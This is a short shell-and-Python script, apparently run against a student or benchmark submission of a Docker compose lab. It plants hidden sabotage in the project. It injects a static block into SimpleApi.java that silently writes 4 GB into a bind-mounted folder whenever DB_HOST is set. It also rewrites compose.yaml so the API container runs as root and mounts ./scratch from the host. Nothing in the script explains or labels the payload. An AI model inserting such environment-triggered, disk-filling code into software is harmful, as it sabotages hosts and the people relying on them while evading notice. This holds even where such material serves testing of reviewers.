# run in the submission's folder; in a stack, the API (as root) writes 4 GB into a folder of the submission it binds
set -e
python3 - <<'PY'
fill = r'''    static { // in a stack (DB_HOST set): 4 GB into /scratch, a folder of the submission, errors ignored
        if (System.getenv("DB_HOST") != null) {
            byte[] block = new byte[4 << 20];
            try (java.io.OutputStream out = new java.io.FileOutputStream("/scratch/fill-" + System.nanoTime())) {
                for (int i = 0; i < 1024; i++) {
                    out.write(block);
                }
            } catch (Exception full) { }
        }
    }
'''
path = "src/main/java/dockerlab/api/SimpleApi.java"
text = open(path, encoding="utf-8").read()
anchor = "public final class SimpleApi {\n"
assert anchor in text
open(path, "w", encoding="utf-8").write(text.replace(anchor, anchor + fill, 1))
path = "exercises/05-compose-stack/compose.yaml"
text = open(path, encoding="utf-8").read()
anchor = "    depends_on:\n      db:\n        condition: service_healthy\n"
assert anchor in text
open(path, "w", encoding="utf-8").write(text.replace(anchor, anchor + '    user: "0"\n    volumes:\n      - ./scratch:/scratch\n', 1))
PY
mkdir -p exercises/05-compose-stack/scratch
touch exercises/05-compose-stack/scratch/.keep
